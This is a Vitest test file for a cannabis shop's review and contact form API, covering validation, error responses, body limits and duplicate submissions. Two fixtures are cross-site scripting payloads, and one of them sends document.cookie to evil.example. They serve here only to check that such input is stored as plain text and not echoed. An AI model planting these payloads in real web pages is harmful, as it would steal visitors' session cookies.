import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { readErrorBody } from '#shared/errors';
import { CONTACT_SUBJECT_IDS, contactReceiptSchema } from '#shared/schemas/contact';
import { REVIEW_PRODUCTS, reviewReceiptSchema } from '#shared/schemas/review';
import { expectError as expectErrorAnswer } from '../setup/api-answers.ts';
import { type ApiHarness, startApi } from '../setup/api-harness.ts';
import type { TestResponse } from '../setup/test-client.ts';

let api: ApiHarness;
beforeAll(async () => {
  api = await startApi();
});
beforeEach(() => api.reset());
afterAll(() => api.close());

const aReview = (overrides: Record<string, unknown> = {}) => ({
  submissionId: randomUUID(),
  name: 'Maya R.',
  rating: 4,
  product: 'Tangie Flower',
  title: 'Bright and citrusy',
  review: 'Smooth smoke, uplifting without the jitters. Great for a Saturday hike.',
  ...overrides,
});

const aMessage = (overrides: Record<string, unknown> = {}) => ({
  submissionId: randomUUID(),
  name: 'Jordan Lee',
  email: 'jordan@example.com',
  subject: 'dosage-help',
  message: 'How many of the Midnight Berry gummies should a beginner start with?',
  ...overrides,
});

function expectError(response: TestResponse, status: number, code: string, label = '') {
  expectErrorAnswer(response, status, code, label);
  expect(response.text, label).not.toMatch(/\bat \S+ \(|node_modules|\.ts:\d|\binsert into\b/i);
}

async function rowsOf(table: 'reviews' | 'contact_messages') {
  return api.db(table).select('*').orderBy('created_at');
}

const ENDPOINTS = [
  { path: '/api/reviews', table: 'reviews', valid: aReview },
  { path: '/api/contact', table: 'contact_messages', valid: aMessage },
] as const;

describe('POST /api/reviews', () => {
  test('a new review is stored as pending and answered 201 {id, status}, no-store, without an age cookie', async () => {
    const body = aReview();
    const response = await api.client().post('/api/reviews', { json: body });
    expect(response.status, response.text).toBe(201);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const receipt = reviewReceiptSchema.parse(response.body);
    expect(receipt.status).toBe('pending');
    expect(Object.keys(response.body).sort()).toEqual(['id', 'status']);

    const [row, ...others] = await rowsOf('reviews');
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      id: receipt.id,
      submission_id: body.submissionId,
      name: 'Maya R.',
      rating: 4,
      product: 'Tangie Flower',
      title: 'Bright and citrusy',
      review: body.review,
      status: 'pending',
    });
    expect(new Date(row.created_at).getTime()).toBeGreaterThan(Date.now() - 60_000);
  });

  test('every product of the list can be reviewed, and the rating defaults to 5', async () => {
    const client = api.client();
    for (const product of REVIEW_PRODUCTS) {
      const { rating: _omitted, ...body } = aReview({ product });
      const response = await client.post('/api/reviews', { json: body });
      expect(response.status, `${product} ${response.text}`).toBe(201);
    }
    const rows = await rowsOf('reviews');
    expect(rows.map((row) => row.product).sort()).toEqual([...REVIEW_PRODUCTS].sort());
    expect(new Set(rows.map((row) => row.rating))).toEqual(new Set([5]));
  });

  test('text is trimmed, unknown fields are dropped, and a client cannot choose the status', async () => {
    const chosenId = randomUUID();
    const body = aReview({
      name: '  Maya R.  ',
      title: '\n Bright \t',
      status: 'approved',
      id: chosenId,
      verified: true,
      helpful: 999,
    });
    const response = await api.client().post('/api/reviews', { json: body });
    expect(response.status, response.text).toBe(201);
    expect(response.body.status).toBe('pending');
    expect(response.body.id).not.toBe(chosenId);
    const [row] = await rowsOf('reviews');
    expect(row).toMatchObject({ name: 'Maya R.', title: 'Bright', status: 'pending' });
    expect(Object.keys(row ?? {})).not.toContain('verified');
  });

  test('a script tag is stored verbatim, as text, and never echoed back', async () => {
    const script = '<script>alert("xss")</script><img src=x onerror=alert(1)>';
    const response = await api.client().post('/api/reviews', { json: aReview({ title: script, review: script }) });
    expect(response.status).toBe(201);
    expect(response.text).not.toContain('<script');
    const [row] = await rowsOf('reviews');
    expect(row?.title).toBe(script);
    expect(row?.review).toBe(script);
  });
});

describe('POST /api/contact', () => {
  test('a new message is stored and answered 201 {id}, no-store, without an age cookie', async () => {
    const body = aMessage({ email: '  Jordan@Example.com ' });
    const response = await api.client().post('/api/contact', { json: body });
    expect(response.status, response.text).toBe(201);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const receipt = contactReceiptSchema.parse(response.body);
    expect(Object.keys(response.body)).toEqual(['id']);
    const [row, ...others] = await rowsOf('contact_messages');
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      id: receipt.id,
      submission_id: body.submissionId,
      name: 'Jordan Lee',
      email: 'Jordan@Example.com',
      subject: 'dosage-help',
      message: body.message,
    });
  });

  test('every subject of the list is accepted', async () => {
    const client = api.client();
    for (const subject of CONTACT_SUBJECT_IDS) {
      const response = await client.post('/api/contact', { json: aMessage({ subject }) });
      expect(response.status, `${subject} ${response.text}`).toBe(201);
    }
    expect((await rowsOf('contact_messages')).map((row) => row.subject).sort()).toEqual(
      [...CONTACT_SUBJECT_IDS].sort(),
    );
  });

  test('a script tag in a message is stored verbatim', async () => {
    const script = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
    const response = await api
      .client()
      .post('/api/contact', { json: aMessage({ message: script, name: script.slice(0, 80) }) });
    expect(response.status).toBe(201);
    const [row] = await rowsOf('contact_messages');
    expect(row?.message).toBe(script);
    expect(row?.name).toBe(script.slice(0, 80));
  });
});

describe('invalid fields: 400 invalid_request naming the field, nothing stored', () => {
  const reviewCases: [string, Record<string, unknown>][] = [
    ['name', { name: '   ' }],
    ['name', { name: undefined }],
    ['name', { name: 'x'.repeat(81) }],
    ['name', { name: 42 }],
    ['rating', { rating: 0 }],
    ['rating', { rating: 6 }],
    ['rating', { rating: 4.5 }],
    ['rating', { rating: '5' }],
    ['rating', { rating: null }],
    ['product', { product: 'Mystery Gummies' }],
    ['product', { product: '' }],
    ['product', { product: undefined }],
    ['title', { title: '' }],
    ['title', { title: 'x'.repeat(121) }],
    ['review', { review: ' \n ' }],
    ['review', { review: 'x'.repeat(2001) }],
    ['review', { review: 'bad\u0000byte' }],
    ['submissionId', { submissionId: undefined }],
    ['submissionId', { submissionId: 'not-a-uuid' }],
  ];
  test.each(reviewCases)('review: %s %j', async (field, overrides) => {
    const response = await api.client().post('/api/reviews', { json: aReview(overrides) });
    expectError(response, 400, 'invalid_request', field);
    expect(response.body.error.message).toMatch(new RegExp(`^${field}: `));
    expect(response.body.error.details.map((issue: { path: string[] }) => issue.path[0])).toEqual([field]);
    expect(await rowsOf('reviews')).toEqual([]);
  });

  const contactCases: [string, Record<string, unknown>][] = [
    ['name', { name: '' }],
    ['name', { name: 'x'.repeat(81) }],
    ['email', { email: '' }],
    ['email', { email: 'jordan' }],
    ['email', { email: 'jordan@' }],
    ['email', { email: `${'a'.repeat(250)}@example.com` }],
    ['subject', { subject: 'complaint' }],
    ['subject', { subject: undefined }],
    ['message', { message: '  ' }],
    ['message', { message: 'x'.repeat(5001) }],
    ['submissionId', { submissionId: 12 }],
  ];
  test.each(contactCases)('contact: %s %j', async (field, overrides) => {
    const response = await api.client().post('/api/contact', { json: aMessage(overrides) });
    expectError(response, 400, 'invalid_request', field);
    expect(response.body.error.message).toMatch(new RegExp(`^${field}: `));
    expect(await rowsOf('contact_messages')).toEqual([]);
  });

  test('the messages read as sentences a shopper would understand', async () => {
    const response = await api.client().post('/api/reviews', { json: aReview({ product: 'Nope' }) });
    expect(response.body.error.message).toBe('product: Choose one of our products');
    const contact = await api.client().post('/api/contact', { json: aMessage({ email: 'nope' }) });
    expect(contact.body.error.message).toBe('email: Enter a valid email address, like name@example.com');
  });

  test('an empty body names every missing field in details', async () => {
    const response = await api.client().post('/api/contact', { json: {} });
    expectError(response, 400, 'invalid_request');
    const fields = response.body.error.details.map((issue: { path: string[] }) => issue.path[0]).sort();
    expect(fields).toEqual(['email', 'message', 'name', 'subject', 'submissionId']);
  });
});

describe.each(ENDPOINTS)('bad requests to $path change nothing', ({ path, table, valid }) => {
  test('a body that is not JSON is 415 unsupported_media_type', async () => {
    const client = api.client();
    const text = await client.post(path, {
      body: JSON.stringify(valid()),
      headers: { 'content-type': 'text/plain' },
    });
    expectError(text, 415, 'unsupported_media_type');
    const form = await client.post(path, {
      body: 'name=Maya&rating=5',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expectError(form, 415, 'unsupported_media_type');
    expect(await rowsOf(table)).toEqual([]);
  });

  test('malformed JSON is 400 invalid_json', async () => {
    for (const body of ['{bad', '{"name": "Maya"', "{'name': 'Maya'}"]) {
      const response = await api.client().post(path, { body, headers: { 'content-type': 'application/json' } });
      expectError(response, 400, 'invalid_json', body);
    }
    expect(await rowsOf(table)).toEqual([]);
  });

  test('JSON that is not an object is 400 invalid_request', async () => {
    for (const json of [[valid()], 'a review', 5, null]) {
      const response = await api.client().post(path, { json });
      expect(response.status, JSON.stringify(json)).toBe(400);
      expect(readErrorBody(response.body)?.error.code).toMatch(/^invalid_(request|json)$/);
    }
    expect(await rowsOf(table)).toEqual([]);
  });

  test('a body over 16 KB is 413 payload_too_large', async () => {
    const response = await api.client().post(path, { json: valid({ padding: 'x'.repeat(17 * 1024) }) });
    expectError(response, 413, 'payload_too_large');
    expect(await rowsOf(table)).toEqual([]);
  });

  test('a method it does not answer is 405 method_not_allowed with Allow: POST', async () => {
    // GET /api/reviews lists the approved reviews (admin-reviews.test.ts); neither takes DELETE.
    const response = await api.client().delete(path);
    expectError(response, 405, 'method_not_allowed');
    expect(response.headers.get('allow')).toMatch(/POST/);
  });
});

describe.each(ENDPOINTS)('resending to $path', ({ path, table, valid }) => {
  test('the same submission sent again is stored once and answered 200 with the same receipt', async () => {
    const body = valid();
    const client = api.client();
    const first = await client.post(path, { json: body });
    expect(first.status, first.text).toBe(201);
    // Another device session, as after a reload: the submission id alone decides.
    const again = await api.client().post(path, { json: { ...body, submissionId: body.submissionId.toUpperCase() } });
    expect(again.status, again.text).toBe(200);
    expect(again.body).toEqual(first.body);
    expect(await rowsOf(table)).toHaveLength(1);
  });

  test('sends racing each other store one row', async () => {
    const body = valid();
    const client = api.client();
    const answers = await Promise.all(Array.from({ length: 5 }, () => client.post(path, { json: body })));
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 200, 200, 200, 201]);
    expect(new Set(answers.map((answer) => answer.body.id)).size).toBe(1);
    expect(await rowsOf(table)).toHaveLength(1);
  });

  test('a different submission under a used id is 409 submission_conflict and the first stays', async () => {
    const body = valid();
    const client = api.client();
    expect((await client.post(path, { json: body })).status).toBe(201);
    const changed =
      'review' in body ? { ...body, review: `${body.review} Edited.` } : { ...body, message: 'Something else' };
    expectError(await client.post(path, { json: changed }), 409, 'submission_conflict');
    const rows = await rowsOf(table);
    expect(rows).toHaveLength(1);
  });

  test('two submissions with their own ids are two rows', async () => {
    const client = api.client();
    expect((await client.post(path, { json: valid() })).status).toBe(201);
    expect((await client.post(path, { json: valid() })).status).toBe(201);
    expect(await rowsOf(table)).toHaveLength(2);
  });
});
